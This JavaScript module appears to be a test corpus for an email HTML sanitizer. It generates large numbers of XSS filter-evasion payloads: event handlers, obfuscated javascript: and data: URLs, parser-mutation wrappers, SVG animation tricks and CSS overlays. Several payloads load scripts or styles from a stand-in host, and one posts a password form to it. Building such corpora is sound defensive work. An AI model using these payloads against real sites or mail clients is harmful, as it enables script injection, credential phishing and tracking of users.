// Ways to smuggle script, requests or other people's looks past a cleaner of HTML, as mail could carry them.
//
// The collections that were read for it, none of whose text is here: OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0),
// DOMPurify's test fixtures (Apache-2.0 or MPL-2.0), html5sec (H5SC), PortSwigger's XSS cheat sheet (no licence), the tests of
// ammonia, sanitize-html and Roundcube, and Roundcube's advisories up to version 1.7.4. Each trick is written here in
// our own words and multiplied: every handler on every element that Chromium fires it for, every spelling of a scheme in every
// attribute that takes an address, every payload behind every element at which parsers disagree.
//
// Whoever has the collections themselves can run them too: XSS_COLLECTIONS names files with a JSON list of strings, or of
// objects with `payload`, `code` or `data`.

import { readFileSync } from "node:fs";

const RUN = "pwn()";
const FAR = "http://far.example";

const HANDLERS = [
  "abort", "afterscriptexecute", "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "beforematch", "beforetoggle", "beforeunload", "begin", "blur",
  "cancel", "canplay", "canplaythrough", "change", "click", "close", "command", "contentvisibilityautostatechange", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag",
  "dragend", "dragenter", "dragover", "dragstart", "drop", "durationchange", "end", "ended", "error", "focus", "focusin", "formdata", "gotpointercapture", "hashchange", "input",
  "invalid", "keydown", "keypress", "keyup", "load", "loadeddata", "loadedmetadata", "loadstart", "message", "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseover",
  "mouseup", "mousewheel", "pagehide", "pageshow", "paste", "play", "pointerdown", "pointerenter", "pointermove", "pointerover", "pointerrawupdate", "popstate", "progress",
  "repeat", "reset", "resize", "scroll", "scrollend", "scrollsnapchange", "search", "seeked", "select", "selectionchange", "selectstart", "show", "snapchanged", "start", "submit",
  "suspend", "timeupdate", "toggle", "touchstart", "transitionend", "transitionrun", "transitionstart", "unload", "volumechange", "waiting", "webkitanimationend",
  "webkitmouseforcechanged", "webkitplaybacktargetavailabilitychanged", "webkittransitionend", "wheel",
];

/** Elements that fire something on their own, and some of those that stay. */
const BEARERS = [
  "img src=x", "img src=cid:a@b", "svg", "body", "video src=x autoplay", "audio src=x autoplay", "input autofocus", "details open", "iframe", "marquee", "object data=x", "p", "a href=http://a.example",
  "table", "div tabindex=0 autofocus", "xss", "style", "font", "blockquote contenteditable autofocus",
];

const handlers = () => HANDLERS.flatMap((name, at) => [
  `<${BEARERS[at % BEARERS.length]} on${name}=${RUN}>x`,
  `<img src=x ON${name.toUpperCase()}='${RUN}'>`,
  `<a href="http://a.example" title='x' on${name}\n=\n"${RUN}">x</a>`,
]).concat(BEARERS.flatMap((bearer) => ["load", "error", "focus", "toggle", "mouseover", "animationstart"].map((name) => `<${bearer} on${name}="${RUN}" style="animation:x 1s">x`)));

/** `javascript:` and relatives, in spellings that some parser reads as such. */
function schemes() {
  const word = "javascript";
  const entity = (form) => [...`${word}:${RUN}`].map((c) => form(c.codePointAt(0))).join("");
  const inside = ["\t", "\n", "\r", "\r\n", "&Tab;", "&NewLine;", "&#9;", "&#x0a;", "&#13;", "&#0;", "\0", "&#1;", "&#xad;", "&#x200b;", "&zwnj;", "&#x202e;", "&#xfeff;", "/**/", "\\", "%09", "&amp;Tab;"];
  const before = [" ", "\t", "\n", "\u0001", "\u001f", "&#1;", "&#8;", "&#14;", "&#31;", "&#32;", "&nbsp;", "&#x1680;", "&#x180e;", "&#x2000;", "&#x2028;", "&#x2029;", "&#x202e;", "&#x2066;", "&#x3000;", "&#xfeff;", "\ufeff", "./", "//", "\\", "x:", "view-source:", "feed:", "jar:", "url:", "about:", "filesystem:", "intent:"];
  return [
    `${word}:${RUN}`, `JAVASCRIPT:${RUN}`, `jAvAsCrIpT:${RUN}`, `${word}&colon;${RUN}`, `${word}&#58;${RUN}`, `${word}&#x3a${RUN}`, `${word}&#0000058${RUN}`, `${word}\uff1a${RUN}`, `${word}%3a${RUN}`,
    `${word}://a.example/%0a${RUN}`, `${word}://%0d%0a${RUN}`, `${word}://http://a.example/%0a${RUN}`, `${word}:/*http://a.example*/${RUN}`, `${word}:'http://a.example';${RUN}`, `${word}:void(0);${RUN}`, `${word}:\`\${${RUN}}\``, `${word}:%70%77%6e()`, `\uff4aavascript:${RUN}`, `j\u0430vascript:${RUN}`, `livescript:${RUN}`, `vbscript:MsgBox(1)`, `VBSCRIPT:${RUN}`, `jscript:${RUN}`, `mocha:${RUN}`,
    entity((code) => `&#${code};`), entity((code) => `&#${String(code).padStart(7, "0")}`), entity((code) => `&#x${code.toString(16)};`), entity((code) => `&#X${code.toString(16).padStart(6, "0")}`), entity((code) => `%${code.toString(16)}`), entity((code) => `\\u00${code.toString(16)}`), entity((code) => `&amp;#${code};`),
    ...inside.flatMap((mark) => [`java${mark}script:${RUN}`, `${mark}javascript${mark}:${mark}${RUN}`]),
    ...before.map((mark) => `${mark}javascript:${RUN}`),
    `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==`, `DATA:text/html,&lt;script&gt;${RUN}&lt;/script&gt;`, ` data:,x`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `data:text/xml,<x/>`, "data:application/javascript,pwn()", "blob:http://127.0.0.1/0000", "filesystem:http://127.0.0.1/temporary/x", "file:///etc/passwd", "ftp://far.example/x", "ws://far.example", "chrome://settings", "ms-word:ofe|u|http://far.example/x", "cid:a@b", "mid:x", "about:blank", "#", "#reply", "?state=open", "/sign-out", "//far.example", "///far.example", "\\\\far.example\\x", "/\\far.example", "http:far.example", "https:/\\far.example",
  ];
}

const addresses = () => schemes().flatMap((address, at) => {
  const quoted = address.replaceAll('"', "&quot;");
  const places = [
    `<img src="${quoted}">`, `<form action="${quoted}"><button>x</button></form>`, `<button formaction="${quoted}">x</button>`, `<input type=image src="${quoted}">`, `<iframe src="${quoted}"></iframe>`, `<object data="${quoted}"></object>`, `<embed src="${quoted}">`,
    `<table background="${quoted}"><tr><td background="${quoted}">x</table>`, `<area href="${quoted}" shape=default>`, `<svg><a xlink:href="${quoted}"><text>x</text></a></svg>`, `<math href="${quoted}">x</math>`, `<base href="${quoted}"><a href="x">x</a>`, `<img src="cid:a" longdesc="${quoted}" lowsrc="${quoted}" dynsrc="${quoted}" srcset="${quoted} 1x">`,
    `<link rel=stylesheet href="${quoted}">`, `<video poster="${quoted}" src="${quoted}"></video>`, `<blockquote cite="${quoted}">x</blockquote>`, `<p style="background-color:url(${quoted})">x</p>`, `<meta http-equiv=refresh content="0;url=${quoted}">`, `<body background="${quoted}">`, `<isindex action="${quoted}" type=submit>`,
  ];
  return [`<a href="${quoted}">x</a>`, `<A HREF='${address.replaceAll("'", "&#39;")}'>x`, places[at % places.length], places[(at * 7 + 3) % places.length]];
});

/** What must not come alive, whatever it is hidden behind. */
const PAYLOADS = [`<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`, `<svg onload=${RUN}>`, `<a href=javascript:${RUN}>x</a>`, `<style>*{display:none}@import '${FAR}/x.css'</style>`];

/** Where parsers disagree on what is markup and what is text: %s is the payload, %q the same inside a double-quoted attribute. */
const MUTATIONS = [
  "<!--><PAY>-->", "<!---><PAY>-->", "<!-- --!><PAY>-->", "<!--<img src=\"--><PAY>\">", "<!-- a -- b --><PAY>", "<!--[if mso]><PAY><![endif]-->", "<!--[if !mso]><!--><PAY><!--<![endif]-->", "<![if true]><PAY><![endif]>", "<!x foo=\"><PAY>\">", "<!DOCTYPE x [<!ENTITY y \"<PAY>\">]><p>&y;</p>", "<!-\0-><PAY>-->",
  "<?xml version=\"1.0\"?><PAY>", "<?php echo '<PAY>' ?>", "<?x a='><PAY>'?>", "<% a='%><PAY>' %>", "</ x=\"><PAY>\">", "</p/title=\"><PAY>\">", "<![CDATA[<PAY>]]>", "<svg><![CDATA[><img title=\"]]><PAY>\"></svg>", "<math><![CDATA[</math><PAY>]]></math>",
  ...["textarea", "title", "style", "xmp", "noscript", "noembed", "noframes", "iframe", "plaintext", "listing", "script type=x", "template", "select", "option", "comment", "selectedcontent", "search"].flatMap((open) => {
    const name = open.split(" ")[0];
    return [`<${open}><PAY></${name}>`, `<${open}></${name}><PAY>`, `<${open}><p title="</${name}><QUOTED>"></${name}>`, `<${open}><!--</${name}><PAY>--></${name}>`, `<${open}>&lt;/${name}&gt;<PAY>`, `<svg><${open}><PAY></svg>`, `<svg></p><${open}><a title="</${name}><QUOTED>">`, `<math><${open}><a title="</${name}><QUOTED>"></math>`, `<svg><desc><${open}><PAY></${name}></desc></svg>`];
  }),
  "<svg><style><PAY></style></svg>", "<svg><foreignObject><PAY></foreignObject></svg>", "<svg><p><style><g title=\"</style><QUOTED>\">", "<svg><title><style><p title=\"</style><QUOTED>\"></svg>", "<svg></br><PAY>", "<svg><b><PAY>", "<svg><font color=x><PAY></svg>",
  "<math><mtext><table><mglyph><style><!--</style><a title=\"--><QUOTED>\">", "<math><mtext><mglyph><style></math><PAY>", "<math><mi><malignmark><style></mi><PAY></style></math>", "<form><math><mtext></form><form><mglyph><style></math><PAY></style>", "<math><annotation-xml encoding=\"text/html\"><style><PAY></style></annotation-xml></math>", "<math><annotation-xml><svg><style></annotation-xml><PAY></style></svg></math>", "<math><maction actiontype=statusline#http://a.example xlink:href=javascript:pwn()>x<PAY></maction></math>",
  "<table><tr><td><PAY><table>", "<table><PAY><tr><td>x", "<table><form><input><PAY></table>", "<table><caption><svg><PAY></caption></table>", "<table><colgroup><PAY></colgroup></table>", "<a><table><a><PAY></table></a>", "<p><table><b></p><PAY></b></table>", "<a><b><a><i><a><PAY>", "<b><p><b><p><b><p><PAY></b>", "<nobr><nobr><PAY>", "<select><table><PAY></select>", "<select><option><select><PAY>", "<button><button><PAY>", "<frameset><PAY></frameset>", "<html><frameset onload=pwn()><PAY>", "<body onload=pwn()><PAY></body><PAY>", "</body></html><PAY>", "<head><PAY></head>", "<p></div></article></main><PAY>",
  "<template><template><PAY></template></template>", "<div><template shadowrootmode=open><PAY></template></div>", "<template><style></template><PAY></style>", "<slot><PAY></slot>", "<portal src=x><PAY></portal>", "<fencedframe><PAY>", "<image src=x onerror=pwn()><PAY>", "<keygen autofocus onfocus=pwn()><PAY>", "<isindex prompt='<PAY>'>", "<dialog open><PAY></dialog>", "<div popover id=p onbeforetoggle=pwn()><PAY></div><button popovertarget=p>x</button>",
  "<p title=\"a\" title='><PAY>'>", "<p title=`><PAY>`>", "<p title=a`b><PAY>", "<p a=\"\n><PAY>\n\">x", "<p =\"><PAY>\">x", "<p \"='><PAY>'>x", "<p x='\"><PAY>'>x</p>", "<p/x/><PAY>", "<p\0title=\"><PAY>\">x", "<p title=\"&quot;><QUOTED>\">x</p>", "<p title=\"&amp;quot;><QUOTED>\">x</p>", "<p title='&#39;><PAY>'>x", "<p title=\"&#x22;&#x3e;<QUOTED>\">x", "<img alt=\"&lt;PAY&gt;<QUOTED>\" src=cid:a>", "<img src=\"cid:&quot;><QUOTED>\">", "<img src='cid:\"><PAY>'>", "<img src=\"cid:a\" alt='\"><PAY>'>", "<img src=\"cid:%22%3e<QUOTED>\">", "<font face='\"><PAY>'>x</font>", "<a href='http://a.example/\"><PAY>'>x</a>", "<a href=\"http://a.example/<QUOTED>\">x</a>", "<p style='color:\"><PAY>'>x</p>", "<p style=\"font-family:'</p><QUOTED>'\">x</p>", "<p lang='\"><PAY>'>x</p>", "<td colspan='\"><PAY>'>",
  "&lt;PAY&gt;", "&lt;img src=x onerror=pwn()&gt;", "&amp;lt;img src=x onerror=pwn()&amp;gt;", "<listing>&lt;img src=x onerror=pwn()&gt;<t t></listing>", "<xmp>&lt;/xmp&gt;&lt;img src=x onerror=pwn()&gt;</xmp>", "&#60img src=x onerror=pwn()&#62", "&#x3c;script&#x3e;pwn()&#x3c;/script&#x3e;", "\u{fdd1}img src=x onerror=pwn()\u{fdd2}", "\u{fdd0}lt;img src=x onerror=pwn()>", "\u{fdd3}\u{bc}img src=x onerror=pwn()\u{fdd3}\u{be}", "\u00bcscript\u00bepwn()\u00bc/script\u00be", "\uff1cscript\uff1epwn()\uff1c/script\uff1e", "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "\u2039script\u203apwn()", "<\u0000script>pwn()</script>", "<scr\u0000ipt>pwn()</scr\u0000ipt>", "<scr<script>ipt>pwn()</scr</script>ipt>", "<<script>pwn()//<</script>", "<script<PAY>", "<script/x>pwn()</script>", "<script\u000cx>pwn()</script>", "<ſcript>pwn()</ſcript>", "<İmg src=x onerror=pwn()>", "<script src=//far.example/x.js", "<img src=x onerror=pwn()//", "<iframe srcdoc=\"<QUOTED>\"></iframe>", "<iframe srcdoc='&lt;script>parent.pwn()&lt;/script>'>", "<object data=x><PAY></object>", "<embed code=http://far.example/x.swf allowscriptaccess=always>", "<applet code=x codebase=http://far.example/><PAY></applet>", "<xml id=x><x><PAY></x></xml>", "<x xmlns='\"><PAY>'>", "<svg:script>pwn()</svg:script>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>pwn()</html:script>", "<o:p onclick=pwn()><PAY></o:p>", "<v:shape style='behavior:url(#default#VML)' href='javascript:pwn()'><PAY></v:shape>", "<st1:place onmouseover=pwn()>x</st1:place>", "<mstts:backgroundaudio src='http://far.example/x'/>",
];

const mutations = () => MUTATIONS.flatMap((form, at) => {
  const all = form.includes("<PAY>") || form.includes("<QUOTED>") || form.includes("PAY") ? PAYLOADS : [""];
  return all.map((payload) => form.replaceAll("<PAY>", payload).replaceAll("<QUOTED>", payload.replaceAll('"', "'")).replaceAll("PAY", payload.slice(1, -1)));
}).flatMap((piece) => [piece, `<table><tr><td>${piece}</td></tr></table>`, `<blockquote><p>a ${piece} b</p></blockquote>`]);

const svg = () => [
  "<svg><animate attributeName=href values=javascript:pwn() /><a id=x><text y=20>x</text></a></svg>", "<svg><a><animate attributeName=href values='a;javascript:pwn()' begin=0s dur=1s fill=freeze /><text y=20>x</text></a></svg>", "<svg><a><set attributeName=xlink:href to='&#106;avascript:pwn()' /><text y=20>x</text></a></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<svg><animateMotion onend=pwn() dur=1ms>", "<svg><set attributeName=onload to=pwn() begin=0s>", "<svg><discard onbegin=pwn()>", "<svg><animate attributeName=style values='position:fixed;inset:0'>", "<svg><image href=x><animate attributeName=src values=http://far.example/x.png></image></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0icHduKCkiLz48L3N2Zz4=#x'>", "<svg><use href='dAta:image/s\tvg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=pwn() /></svg>#x'>", "<svg><use xlink:href='http://far.example/x.svg#x'>", "<svg><image xlink:href='http://far.example/x.png'></svg>", "<svg><feImage href='http://far.example/x.png'/></svg>", "<svg><filter><feImage xlink:href='http://far.example/x.png'/></filter></svg>", "<svg><path fill='url(http://far.example/x)' filter='u\\72l(http://far.example/x)' mask='url(//far.example/#x)'/></svg>", "<svg><script href='http://far.example/x.js'/></svg>", "<svg><script>&#112;wn()</script></svg>", "<svg><script xlink:href='data:,pwn()'/></svg>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>pwn()</handler></svg>", "<svg><a xlink:href='?' target=_top><rect width=9999 height=9999 /></a></svg>", "<svg width=9999 height=9999 style='position:fixed;inset:0'><rect width=9999 height=9999 /></svg>", "<svg><switch><foreignObject width=9999 height=9999><form action='http://far.example'><input autofocus></form></foreignObject></switch></svg>", "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><cursor xlink:href='http://far.example/x.cur'/></svg>", "<svg><tref xlink:href='http://far.example/x'/></svg>", "<math><mrow xlink:type=simple xlink:href=javascript:pwn()>x</mrow></math>", "<math><semantics><annotation-xml encoding='application/xhtml+xml'><iframe src=javascript:pwn()></iframe></annotation-xml></semantics></math>", "<math href=javascript:pwn()>x</math>", "<math><mglyph src='http://far.example/x.png'/></math>",
];

/** Things that need no script: requests, what other elements can be made to do, places that words take from each other. */
const quiet = () => [
  ...["img", "input type=image", "video", "audio", "source", "track", "embed", "iframe", "frame", "script", "bgsound", "image", "portal", "amp-img", "layer", "ilayer", "fencedframe"].flatMap((name) => [`<${name} src="${FAR}/x.png" width=1 height=1>`, `<${name} src='//far.example/x'>`, `<video><${name} src="${FAR}/x"></video>`]),
  ...["preload", "prefetch", "modulepreload", "dns-prefetch", "preconnect", "icon", "import", "manifest", "stylesheet", "alternate stylesheet", "prerender", "pingback", "search", "apple-touch-icon", "expect", "speculationrules"].flatMap((rel) => [`<link rel="${rel}" href="${FAR}/x" as=image>`, `<a rel="${rel}" href="${FAR}/x">x</a>`, `<table><link rel='${rel}' href='${FAR}/x'></table>`]),
  `<img src="cid:a" srcset="${FAR}/x 1x">`, `<img srcset="${FAR}/x" sizes=100vw>`, `<picture><source srcset="${FAR}/x"><img src="cid:a"></picture>`, `<img src="cid:a" crossorigin referrerpolicy=unsafe-url loading=eager attributionsrc="${FAR}/x">`, `<a href="https://a.example" ping="${FAR}/x" attributionsrc="${FAR}" target=_top download>x</a>`, `<img usemap=#m src=cid:a width=999><map name=m><area shape=default href=javascript:pwn()></map>`, `<img ismap src=cid:a><a href="http://a.example"><img ismap src=cid:a></a>`, `<meta http-equiv=refresh content="0">`, `<META HTTP-EQUIV="Set-Cookie" content="a=b">`, `<meta http-equiv=content-security-policy content="default-src *">`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-`, `<base target=_top><base href="${FAR}/">`, `<html manifest="${FAR}/x">`, `<head profile="${FAR}/x">`, `<q cite="${FAR}">x</q>`, `<object type=text/html data="${FAR}"></object>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/sign-out"]}]}</script>`, `<script type=importmap>{"imports":{"x":"${FAR}/x.js"}}</script>`,
  `<form id=x action="${FAR}"><input name=password type=password autofocus></form><button form=x>Sign in</button>`, `<input form=reply name=message value=x>`, `<form action="${FAR}"><textarea name=x>`, `<button type=submit formaction="${FAR}" form=reply>x</button>`, `<select autofocus onfocus=pwn()><option>x</select>`, `<label for=message>x</label>`, `<fieldset disabled><legend>x</legend></fieldset>`, `<output for=message>x</output>`, `<button command=show-modal commandfor=menu>x</button>`, `<button popovertarget=menu popovertargetaction=show>x</button>`, `<input type=hidden onauxclick=pwn() accesskey=x>`, `<a href="http://a.example" accesskey=s onclick=pwn()>x</a>`,
  ...["location", "cookie", "body", "head", "forms", "getElementById", "createElement", "querySelector", "documentElement", "defaultView", "nodeName", "attributes", "parentNode", "children", "reply", "main", "message", "token", "currentScript", "__proto__", "constructor"].flatMap((name) => [`<a id=${name} name=${name} href="http://a.example">x</a>`, `<form id=${name}><input name=${name}></form>`, `<img name=${name} src=cid:a id=${name}>`, `<p class="${name}" data-live="/x" data-entry=${name} slot=${name} part=${name} is=x-${name} itemprop=${name} itemid="javascript:pwn()" role=dialog aria-modal=true contenteditable tabindex=1 hidden inert draggable=true nonce=x exportparts=x>x</p>`]),
];

const FUNCTIONS = ["url", "u\\72l", "u\\000072 l", "URL", "ur/**/l", "image", "-webkit-image-set", "image-set", "cross-fade", "element", "src", "expression", "e\\xpression", "ｅｘｐｒｅｓｓｉｏｎ", "paint", "attr", "var", "env", "calc", "format", "local", "symbols", "counter", "rgb", "rgba", "color-mix", "if", "sibling-index"];
const LOADERS = ["background", "background-image", "background-color", "border-image", "border-image-source", "list-style", "list-style-image", "list-style-type", "content", "cursor", "filter", "backdrop-filter", "mask", "mask-image", "clip-path", "shape-outside", "offset-path", "behavior", "-moz-binding", "src", "color", "font", "font-family", "border", "--x", "marker", "fill", "quotes"];

/** Sizes that cover or leave the place of the message. */
const PLACES = [
  "position:fixed;inset:0", "position:absolute;top:0;left:0;width:100vw;height:100vh", "position:sticky;top:0", "POSITION:FIXED", "position :fixed", "pos\\69tion:fixed", "posi/**/tion:fixed", "&#112;osition:fixed", "position:fixed!important", "color:red;position:fixed", "color:red;;;position:fixed", "color:'a;position:fixed", "color:\";position:fixed;\"", "color:(;position:fixed;)", "color:[;position:fixed;]", "color:red}*{position:fixed", "color:red\n;\nposition\n:\nfixed", "font-family:'a\nb;position:fixed'", "font-family:a\\;position:fixed", "font-family:'\\';position:fixed;'", "all:unset;position:fixed", "float:left", "float:inline-start", "display:contents", "display:flex", "display:none", "visibility:hidden", "opacity:0", "z-index:9999", "transform:translateY(-900px)", "translate:0 -900px", "scale:99", "rotate:1deg", "zoom:99", "perspective:1px", "inset:0", "top:-900px", "left:-900px", "margin:-900px", "margin-top:-900px", "margin-top:calc(-900px)", "margin-top:-.9e4px", "margin-left:- 900px", "margin:0 -900px", "margin:0\t-900px", "margin:0\n-900px 0", "margin:0/**/-900px", "margin:0 0 0 -9e3em", "MARGIN-LEFT:-900PX", "margin-top:\u2212900px", "margin-top:+-900px", "margin-inline-start:-900px", "margin-block:-900px", "text-indent:-900px", "text-indent:900em", "text-indent:99999.5px", "text-indent:9e9px", "letter-spacing:-1em", "letter-spacing:-99px", "letter-spacing:99.999999em", "word-spacing:-99px",
  "line-height:0;font-size:99px", "line-height:0", "line-height:.01", "line-height:0%", "line-height:1px;font-size:99px", "line-height:0.0;font-size:999px", "font:99px/0 serif", "font:999px/1px serif", "font:italic bold 99px / 0 serif", "font-size:999px", "font-size:9999px", "font-size:99999.9px", "font-size:9e9px", "font-size:99E9px", "font-size:999vw", "font-size:999em", "font-size:999rem", "font-size:9999%", "font-size:1in;line-height:0in", "font-size:calc(1px*9999)", "margin-top:99999.0px", "margin-top:9e9px", "padding:99999.9px", "padding:999em", "padding:99vh", "border:99999.9px solid red", "border:9e5px solid red", "border-width:999.9em", "border-spacing:99999.9px", "width:99999px", "min-width:99999px", "height:99999px", "max-width:none;width:999em", "vertical-align:999px", "vertical-align:-999px", "vertical-align:99999.9px", "vertical-align:9e9px", "outline:9999px solid red", "outline-offset:999px", "box-shadow:0 0 0 9999px red", "text-shadow:0 -500px red", "border-radius:99px", "border-image:linear-gradient(red,red) 1/999px", "column-count:99", "columns:1px", "writing-mode:vertical-rl", "direction:rtl;unicode-bidi:bidi-override", "unicode-bidi:bidi-override", "text-decoration:underline 999px", "text-decoration:overline 9999.9px red", "text-decoration-thickness:999px", "text-underline-offset:-900px", "text-underline-position:under", "text-emphasis:'\u2588'", "-webkit-text-stroke:99px", "-webkit-box-reflect:above", "-webkit-mask:none", "anchor-name:--x", "position-anchor:--x", "view-transition-name:x", "animation:x 1s", "transition:all 9s", "will-change:transform", "contain:none", "content-visibility:hidden", "overflow:visible", "overflow:scroll", "resize:both", "clip:rect(0,0,0,0)", "pointer-events:none", "cursor:none", "user-select:none", "appearance:button", "white-space:nowrap", "white-space:pre", "page-break-before:always", "font-variant:x", "scroll-margin:999px", "overscroll-behavior:none", "touch-action:none", "color-scheme:dark", "forced-color-adjust:none", "mso-hide:all", "mso-position-horizontal:absolute", "-ms-layout-flow:vertical", "_position:fixed", "*position:fixed",
];

const styles = () => [
  ...FUNCTIONS.flatMap((name) => LOADERS.map((property, at) => [`<p style="${property}:${name}(${at % 2 ? FAR : "'//far.example/x'"})">x</p>`, `<span style='color:red;${property}:red ${name}("${FAR}/x") ,${name}(x)'>x</span>`])).flat(),
  ...PLACES.flatMap((style) => ["p", "a href='http://a.example'", "table", "img src=cid:a@b alt=x", "td", "details open", "h1", "font size=7"].map((tag) => `<${tag} style="${style.replaceAll('"', "&quot;")}">\u2588\u2588\u2588</${tag.split(" ")[0]}>`)),
  ...["width", "height", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "size", "hspace", "vspace", "span", "start", "rows", "bgcolor", "color", "face", "align", "valign", "dir", "type"].flatMap((name) => ["99999", "-99999", "99999%", "1e9", "9999999999999999999999", "javascript:pwn()", `url(${FAR})`, "expression(pwn())"].map((value) => `<table ${name}="${value}"><tr><td ${name}="${value}"><img src=cid:a@b alt=x ${name}="${value}"><font ${name}="${value}">x</font><ol ${name}="${value}"><li>x</ol></td></tr></table>`)),
  `<style>@import url(${FAR}/x.css);</style>`, `<style>@import '${FAR}/x.css' layer(x);*{background:url(${FAR}/x)}</style>`, `<style>@font-face{font-family:x;src:url(${FAR}/x)}*{font-family:x}</style>`, `<style>input[value^=a]{background:url(${FAR}/a)}</style>`, `<p><style scoped>*{position:fixed}</style></p>`, `<style/><p>x`, `<style media="x" onload=pwn()>a{}</style>`, `<style><!--</style><script>pwn()//--></script>`, `<link rel=stylesheet href="data:text/css,*{display:none}">`,
];

/** Words that read otherwise than they are. */
const words = () => [
  "<a href=\"http://far.example\">https://bank.example</a>", "<a href=\"http://a.example\u202e/gro.knab//:sptth\">x</a>", "<p>\u202eabc <a href=\"http://a.example\">\u202dmoc</a></p>", "<p dir=rtl>\u2066\u2067\u2068x</p>", "<bdo dir=rtl>abc</bdo>", "<p>" + "\u0e49".repeat(300) + "</p>", "<p>" + "A\u030d".repeat(100) + "\u0489".repeat(200) + "</p>", "<p>" + "W".repeat(5000) + "</p>", "<p>" + "\u2588".repeat(3000) + "</p>", "<p>\ufdfd\ufdfd\u12031\u{1242b}</p>", "<pre>" + "x".repeat(5000) + "</pre>", "<a href=\"http://user:pass@far.example@a.example/\">x</a>", "<a href=\"http://\u0430pple.example\">x</a>", "<a href=\"mailto:a@a.example?bcc=b@far.example&body=%0d%0ax\">x</a>", "<a href=\"tel:*%2306%23\">x</a>",
];

/** Files that XSS_COLLECTIONS names. */
function collections() {
  return (process.env.XSS_COLLECTIONS ?? "").split(":").filter(Boolean).flatMap((file) => {
    const list = JSON.parse(readFileSync(file, "utf8"));
    return list.map((item) => (typeof item === "string" ? item : item.payload ?? item.code ?? item.data)).filter((text) => typeof text === "string" && text);
  });
}

/** All of them, by kind. */
export const EVASIONS = { handlers: handlers(), addresses: addresses(), mutations: mutations(), svg: svg(), quiet: quiet(), styles: styles(), words: words(), collections: collections() };
